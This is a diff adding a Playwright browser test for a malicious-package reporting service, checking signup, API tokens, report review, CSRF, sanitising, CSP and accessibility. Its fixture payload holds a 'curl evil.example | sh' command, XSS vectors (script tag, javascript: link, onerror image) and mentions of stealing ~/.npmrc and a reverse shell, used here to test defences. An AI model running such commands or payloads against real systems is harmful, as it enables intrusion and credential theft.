@@ -1,0 +1,382 @@
+// threatd's web journey in a real browser: headless Chromium (Debian's
+// package) driven by playwright-core. TestWebBrowser (cmd/threatd) starts
+// a real daemon over HTTPS, runs this script against it, and checks what
+// the script reports with the API; `make screenshots` runs it to refresh
+// docs/screenshots/.
+//
+// Environment:
+//   THREATD_URL          https://127.0.0.1:PORT of the daemon
+//   THREATD_API_BASE     the API's base path (/functions/v1)
+//   REVIEWER_EMAIL       a reviewer with a password (threatd user set-password)
+//   REVIEWER_PASSWORD
+//   SCREENSHOT_DIR       where the pages' screenshots go
+//   CHROMIUM             the browser (default /usr/bin/chromium)
+//
+// Every page is checked as it is shown: no console error, no uncaught
+// exception, no Content-Security-Policy violation, every form control
+// named (a label, or aria-label for buttons), one h1 and a main landmark,
+// and no horizontal scrolling on a phone-sized screen. The names
+// CONTRACT.md §9 gives are found by role and accessible name, as people
+// using assistive technology and scripts find them. On failure the script
+// prints the reason and exits 1; on success it prints one JSON object with
+// what it created, for the Go test to check through the API.
+import { chromium } from "playwright-core";
+import { mkdirSync } from "node:fs";
+import { join } from "node:path";
+
+const env = (k, d) => {
+  const v = process.env[k] ?? d;
+  if (v === undefined) throw new Error(`${k} is not set`);
+  return v;
+};
+const BASE = env("THREATD_URL");
+const API = BASE + env("THREATD_API_BASE", "/functions/v1");
+const REVIEWER = { email: env("REVIEWER_EMAIL"), password: env("REVIEWER_PASSWORD") };
+const SHOTS = env("SCREENSHOT_DIR");
+mkdirSync(SHOTS, { recursive: true });
+
+function check(cond, msg) {
+  if (!cond) throw new Error(msg);
+}
+
+const problems = []; // console errors, page errors and CSP violations, with the page they came from
+const expected = []; // messages a step expects once (e.g. the 404 a visitor must get)
+
+const pages = new Map(); // who → page, for screenshots on failure
+
+function watch(page, who) {
+  pages.set(who, page);
+  page.on("console", (m) => {
+    if (m.type() !== "error" && m.type() !== "warning") return;
+    const text = m.text();
+    const i = expected.findIndex((re) => re.test(text));
+    if (i >= 0) {
+      expected.splice(i, 1);
+      return;
+    }
+    if (m.type() === "error" || /Content Security Policy/i.test(text)) problems.push(`${who} ${page.url()}: console ${m.type()}: ${text}`);
+  });
+  page.on("pageerror", (e) => problems.push(`${who} ${page.url()}: uncaught: ${e.message}`));
+  return page;
+}
+
+// The CSP violations a page has seen, recorded by a listener installed
+// before any of the page's own scripts run.
+const cspListener = () => {
+  window.__csp = [];
+  document.addEventListener("securitypolicyviolation", (e) =>
+    window.__csp.push(`${e.violatedDirective} blocked ${e.blockedURI || "inline"}`),
+  );
+};
+
+async function newContext(browser, opts = {}) {
+  const ctx = await browser.newContext({
+    ignoreHTTPSErrors: true, // the test daemon's self-signed certificate
+    viewport: { width: 1100, height: 800 },
+    locale: "en-GB",
+    ...opts,
+  });
+  await ctx.addInitScript(cspListener);
+  return ctx;
+}
+
+// audit checks the page as it is now.
+async function audit(page, name) {
+  const found = await page.evaluate(() => {
+    const out = [];
+    for (const el of document.querySelectorAll("input:not([type=hidden]), select, textarea")) {
+      const named = (el.labels && el.labels.length > 0 && [...el.labels].some((l) => l.textContent.trim())) ||
+        el.getAttribute("aria-label") || el.getAttribute("aria-labelledby");
+      if (!named) out.push(`unlabelled ${el.tagName.toLowerCase()} name=${el.name} id=${el.id}`);
+    }
+    for (const el of document.querySelectorAll("button, a[href]")) {
+      if (el.hidden || el.closest("[hidden]")) continue;
+      if (!el.textContent.trim() && !el.getAttribute("aria-label")) out.push(`nameless ${el.tagName.toLowerCase()} ${el.outerHTML.slice(0, 80)}`);
+    }
+    for (const el of document.querySelectorAll("img:not([alt])")) out.push(`image without alt: ${el.src}`);
+    const h1 = document.querySelectorAll("h1").length;
+    if (h1 !== 1) out.push(`${h1} h1 elements`);
+    if (!document.querySelector("main")) out.push("no main landmark");
+    if (!document.documentElement.lang) out.push("no lang on html");
+    // (Chromium's autofill leaves empty style attributes on filled fields.)
+    for (const el of document.querySelectorAll("[style]:not([style='']), style")) out.push(`inline style: ${el.outerHTML.slice(0, 120)}`);
+    for (const s of document.scripts) if (!s.src) out.push("inline script");
+    return { issues: out, csp: window.__csp || [] };
+  });
+  for (const i of found.issues) problems.push(`${name}: ${i}`);
+  for (const v of found.csp) problems.push(`${name}: CSP violation: ${v}`);
+}
+
+// shot audits the page and saves its screenshot.
+async function shot(page, name) {
+  await audit(page, name);
+  await page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true });
+}
+
+// go loads a path and checks its status.
+async function go(page, path, status = 200) {
+  const resp = await page.goto(BASE + path);
+  check(resp.status() === status, `GET ${path}: status ${resp.status()}, want ${status}`);
+  return resp;
+}
+
+// submitForm clicks a submit button and checks the status of the page it loads.
+async function submitForm(page, button, status = 200) {
+  const [resp] = await Promise.all([
+    // The page the post lands on, after any redirect (post/redirect/get).
+    page.waitForResponse((r) => r.request().isNavigationRequest() && r.frame() === page.mainFrame() && (r.status() < 300 || r.status() >= 400)),
+    button.click(),
+  ]);
+  check(resp.status() === status, `${button}: ${resp.request().method()} ${resp.url()}: status ${resp.status()}, want ${status}`);
+  await page.waitForLoadState("load");
+  return resp;
+}
+
+const role = (page, r, name) => page.getByRole(r, { name, exact: true });
+// A link or button of the main navigation, by its name.
+const nav = (page, r, name) => page.getByRole("navigation", { name: "Main" }).getByRole(r, { name, exact: true });
+
+const stamp = Date.now().toString(36);
+const apiPkg = `browser-evil-${stamp}`;
+const formPkg = `browser-form-${stamp}`;
+const payload = [
+  "Runs `curl evil.example | sh` on install.",
+  "",
+  "<script>window.__xss = 'script'</script>",
+  "",
+  "[details](javascript:window.__xss='link') and [analysis](https://blog.example/post)",
+  "",
+  "<img src=x onerror=\"window.__xss='onerror'\">",
+  "",
+  "- steals `~/.npmrc`",
+  "- posts it to **evil.example**",
+].join("\n");
+
+const browser = await chromium.launch({
+  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
+  args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-background-networking", "--disable-component-update", "--disable-sync"],
+});
+const out = {};
+try {
+  // An anonymous visitor: the home page and its names.
+  const anonCtx = await newContext(browser);
+  const anon = watch(await anonCtx.newPage(), "anonymous");
+  await go(anon, "/");
+  for (const n of ["Log in", "Sign up"]) await role(anon, "link", n).waitFor();
+  await role(anon, "heading", "Latest verified threats").waitFor();
+  await shot(anon, "home");
+
+  // Sign up: a short password is refused next to its field, the input kept.
+  const samCtx = await newContext(browser);
+  await samCtx.grantPermissions(["clipboard-read", "clipboard-write"], { origin: BASE });
+  const sam = watch(await samCtx.newPage(), "sam");
+  await go(sam, "/");
+  await Promise.all([sam.waitForURL("**/signup"), nav(sam, "link", "Sign up").click()]);
+  await sam.getByLabel("Email", { exact: true }).fill(`sam-${stamp}@example.com`);
+  await sam.getByLabel("Public name", { exact: true }).fill("Sam S");
+  await sam.getByLabel("Password", { exact: true }).fill("short pw");
+  // The browser's own check (minlength) would stop this one; the server's is what is tested.
+  await sam.evaluate(() => document.querySelector("form[action='/signup']").setAttribute("novalidate", ""));
+  expected.push(/status of 400/);
+  await submitForm(sam, role(sam, "button", "Sign up"), 400);
+  check(await sam.getByLabel("Password", { exact: true }).getAttribute("aria-invalid") === "true", "the short password is not marked invalid");
+  check((await sam.getByText("Password must be at least 10 characters").count()) === 1, "no error next to the password");
+  check(await sam.getByLabel("Email", { exact: true }).inputValue() === `sam-${stamp}@example.com`, "the e-mail was not kept");
+  check(await sam.getByLabel("Public name", { exact: true }).inputValue() === "Sam S", "the public name was not kept");
+  await shot(sam, "signup-error");
+  await sam.getByLabel("Password", { exact: true }).fill("a long enough password");
+  await submitForm(sam, role(sam, "button", "Sign up"));
+  await nav(sam, "button", "Log out").waitFor();
+
+  // Settings → API Tokens → Generate Token: shown once, copyable.
+  await go(sam, "/");
+  await Promise.all([sam.waitForURL("**/settings/tokens"), nav(sam, "link", "Settings").click()]);
+  await Promise.all([sam.waitForURL("**/settings/tokens"), role(sam, "link", "API Tokens").click()]);
+  await sam.getByLabel("Token name", { exact: true }).fill("ci-pipeline");
+  await submitForm(sam, role(sam, "button", "Generate Token"));
+  const token = (await sam.locator("#new-token").textContent()).trim();
+  check(/^thd_[0-9A-Za-z]{38}$/.test(token), `the new token looks wrong: ${token}`);
+  const copy = role(sam, "button", "Copy");
+  await copy.click();
+  await role(sam, "button", "Copied").waitFor();
+  check(await sam.evaluate(() => navigator.clipboard.readText()) === token, "Copy did not put the token on the clipboard");
+  await shot(sam, "tokens-new");
+  await go(sam, "/settings/tokens"); // the token is gone, its hint stays
+  check(!(await sam.content()).includes(token), "the token is shown again after the page that created it");
+  await role(sam, "cell", "thd_…" + token.slice(-4)).waitFor();
+  await role(sam, "button", "Revoke").waitFor();
+
+  // Submit through the API with the new token.
+  const api = await (await import("playwright-core")).request.newContext({ ignoreHTTPSErrors: true });
+  const headers = { Authorization: `Bearer ${token}` };
+  let r = await api.post(`${API}/submit-threat-report`, {
+    headers,
+    data: {
+      report_type: "package", resource_identifier: apiPkg, registry: "npm",
+      threat_description: "Steals npm tokens on install", payload_description: payload,
+      severity_level: "high", evidence_references: "https://blog.example/post",
+      contact_email: "sam-private@example.com",
+    },
+  });
+  check(r.status() === 201, `submit through the API: ${r.status()} ${await r.text()}`);
+  const apiID = (await r.json()).threat_id;
+  out.api_threat_id = apiID;
+  out.package = apiPkg;
+  out.token = token;
+
+  // My submissions: the report, pending.
+  await Promise.all([sam.waitForURL("**/me/submissions"), nav(sam, "link", "My submissions").click()]);
+  const row = sam.getByRole("row").filter({ hasText: apiPkg });
+  await row.waitFor();
+  check((await row.textContent()).includes("pending"), `My submissions does not show ${apiPkg} pending: ${await row.textContent()}`);
+  await shot(sam, "my-submissions");
+
+  // Submit a report through the form.
+  await Promise.all([sam.waitForURL("**/submit"), nav(sam, "link", "Submit a report").click()]);
+  await sam.getByLabel("Report type *").selectOption("package");
+  await sam.getByLabel("Resource identifier *").fill(formPkg);
+  await sam.getByLabel("Registry").selectOption("pypi");
+  await sam.getByLabel("Affected versions").fill("0.1.0, 0.1.1");
+  await sam.getByLabel("Threat description *").fill("Typosquat that opens a reverse shell");
+  await sam.getByLabel("Payload description").fill("Opens a shell to `203.0.113.9:4444`.");
+  await sam.getByLabel("Severity").selectOption("critical");
+  await sam.getByLabel("Evidence references").fill("https://blog.example/a|https://blog.example/b");
+  await sam.getByLabel("Tags").fill("typosquat, reverse-shell");
+  await sam.getByLabel("First seen").fill("last Tuesday");
+  // A field the server refuses: shown next to it, the input kept.
+  expected.push(/status of 400/);
+  await submitForm(sam, role(sam, "button", "Submit a report"), 400);
+  const seen = sam.getByLabel("First seen");
+  check(await seen.getAttribute("aria-invalid") === "true", "first_seen is not marked invalid");
+  const errID = (await seen.getAttribute("aria-describedby")).split(" ").pop();
+  check((await sam.locator(`#${errID}`).textContent()).includes("first_seen"), "the first_seen error is not tied to its field");
+  check(await sam.getByLabel("Resource identifier *").inputValue() === formPkg, "the form lost the identifier");
+  check(await sam.getByLabel("Registry").inputValue() === "pypi", "the form lost the registry");
+  check(await sam.getByLabel("Severity").inputValue() === "critical", "the form lost the severity");
+  await shot(sam, "submit-error");
+  await seen.fill("2026-11-20T14:00:00Z");
+  await shot(sam, "submit");
+  await submitForm(sam, role(sam, "button", "Submit a report"));
+  const landed = new URL(sam.url()).pathname;
+  check(/^\/threats\/[0-9a-f-]{36}$/.test(landed), `the form did not land on the new report: ${sam.url()}`);
+  const formID = landed.split("/").pop();
+  out.form_threat_id = formID;
+  out.form_package = formPkg;
+  await sam.getByText("pending", { exact: true }).first().waitFor();
+  await shot(sam, "threat-pending");
+
+  // A pending report is 404 to anyone but its submitter and reviewers.
+  expected.push(/status of 404/);
+  await go(anon, `/threats/${formID}`, 404);
+  await audit(anon, "not-found");
+
+  // A form posted without its CSRF token is refused, and nothing is made.
+  await go(sam, "/settings/tokens");
+  await sam.getByLabel("Token name", { exact: true }).fill("forged");
+  await sam.evaluate(() => document.querySelector("form[action='/settings/tokens'] input[name=csrf_token]").remove());
+  expected.push(/status of 403/);
+  await submitForm(sam, role(sam, "button", "Generate Token"), 403);
+  await go(sam, "/settings/tokens");
+  check((await sam.getByRole("cell", { name: "forged", exact: true }).count()) === 0, "a token was made by a form without its CSRF token");
+
+  // A submitter has no review queue.
+  check((await nav(sam, "link", "Review queue").count()) === 0, "a submitter sees the Review queue link");
+
+  // The reviewer logs in and verifies the API's report in the queue.
+  const ritaCtx = await newContext(browser);
+  const rita = watch(await ritaCtx.newPage(), "reviewer");
+  await go(rita, "/");
+  await Promise.all([rita.waitForURL("**/login**"), nav(rita, "link", "Log in").click()]);
+  await rita.getByLabel("Email", { exact: true }).fill(REVIEWER.email);
+  await rita.getByLabel("Password", { exact: true }).fill(REVIEWER.password);
+  await submitForm(rita, role(rita, "button", "Log in"));
+  await Promise.all([rita.waitForURL("**/review"), nav(rita, "link", "Review queue").click()]);
+  const item = rita.locator("article").filter({ hasText: apiPkg });
+  await item.waitFor();
+  check((await item.locator(".markdown code").first().textContent()) === "curl evil.example | sh", "the queue does not render the payload's Markdown");
+  await shot(rita, "review-queue");
+  // Reject without a note is refused; verify with one is done.
+  await submitForm(rita, item.getByRole("button", { name: "Reject", exact: true }));
+  await rita.getByText("a note is required to reject").waitFor();
+  const again = rita.locator("article").filter({ hasText: apiPkg });
+  await again.getByLabel("Note", { exact: true }).fill("Confirmed: the postinstall script posts ~/.npmrc");
+  await submitForm(rita, again.getByRole("button", { name: "Verify", exact: true }));
+  await rita.getByText(`package ${apiPkg}: verified`).waitFor();
+
+  // check-malicious says malicious at once.
+  r = await api.get(`${API}/check-malicious?report_type=package&resource_identifier=${apiPkg}&ecosystem=npm`, { headers });
+  const verdict = await r.json();
+  check(r.status() === 200 && verdict.malicious === true, `check-malicious right after Verify: ${r.status()} ${JSON.stringify(verdict)}`);
+
+  // The public page: Markdown rendered, the hostile parts inert.
+  await go(anon, `/threats/${apiID}`);
+  const md = anon.locator(".markdown");
+  check((await md.locator("code").first().textContent()) === "curl evil.example | sh", "the public page does not render the Markdown");
+  check((await md.locator("li").count()) === 2, "the Markdown list is not rendered");
+  check((await md.locator("script, [onerror], [onclick], a[href^='javascript:' i], iframe, object").count()) === 0, "hostile markup survived sanitising");
+  const link = md.getByRole("link", { name: "analysis" });
+  const rel = (await link.getAttribute("rel")) || "";
+  check(rel.includes("nofollow") && rel.includes("noopener"), `a payload link has rel="${rel}"`);
+  const details = md.getByText("details", { exact: true });
+  if (await details.count()) await details.first().click();
+  await anon.waitForTimeout(300);
+  check(await anon.evaluate(() => window.__xss) === undefined, "a payload ran script in the visitor's browser");
+  check(!(await anon.content()).includes("sam-private@example.com"), "the public page shows the contact e-mail");
+  await anon.getByText("Confirmed: the postinstall script posts ~/.npmrc").waitFor();
+  await shot(anon, "threat");
+  // The CSP itself: an inline script injected into the page does not run
+  // and is reported (this also shows the violation listener works).
+  expected.push(/Content Security Policy/);
+  await anon.evaluate(() => {
+    const s = document.createElement("script");
+    s.textContent = "window.__xss = 'injected'";
+    document.body.append(s);
+  });
+  await anon.waitForTimeout(200);
+  check(await anon.evaluate(() => window.__xss) === undefined, "an injected inline script ran: the CSP does not hold");
+  const csp = await anon.evaluate(() => window.__csp.splice(0));
+  check(csp.length === 1 && csp[0].startsWith("script-src"), `the injected script was not reported as a CSP violation: ${JSON.stringify(csp)}`);
+
+  // The home page's search: by purl, and the latest list.
+  await go(anon, "/");
+  await anon.getByLabel("or a package URL (purl)").fill(`pkg:npm/${apiPkg}`);
+  await Promise.all([anon.waitForURL("**/?**"), role(anon, "button", "Search").click()]);
+  await anon.getByText("Malicious.").waitFor();
+  await anon.getByRole("row").filter({ hasText: apiPkg }).waitFor();
+  await shot(anon, "search");
+
+  // On a phone-sized screen nothing scrolls sideways.
+  const phoneCtx = await newContext(browser, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
+  const phone = watch(await phoneCtx.newPage(), "phone");
+  for (const path of ["/", `/threats/${apiID}`, "/login", "/signup"]) {
+    await go(phone, path);
+    const overflow = await phone.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+    check(overflow <= 0, `${path} scrolls sideways by ${overflow}px on a 390px-wide screen`);
+    await audit(phone, `phone ${path}`);
+    if (path.startsWith("/threats/")) await phone.screenshot({ path: join(SHOTS, "phone-threat.png") });
+  }
+
+  // Log out: the session ends.
+  await submitForm(sam, nav(sam, "button", "Log out"));
+  await nav(sam, "link", "Log in").waitFor();
+  await go(sam, "/settings/tokens");
+  check(sam.url().includes("/login"), `after Log out, /settings/tokens is ${sam.url()}`);
+
+  check(expected.length === 0, `console messages expected but not seen: ${expected.join(", ")}`);
+  check(problems.length === 0, "problems seen in the browser:\n  " + problems.join("\n  "));
+  console.log(JSON.stringify(out));
+} catch (e) {
+  console.error(e.stack || String(e));
+  if (problems.length) console.error("also seen in the browser:\n  " + problems.join("\n  "));
+  for (const [who, page] of pages) {
+    const path = join(SHOTS, `failure-${who}.png`);
+    try {
+      await page.screenshot({ path, fullPage: true });
+      console.error(`${who} was at ${page.url()}: ${path}`);
+    } catch {}
+  }
+  process.exitCode = 1;
+} finally {
+  await browser.close();
+}
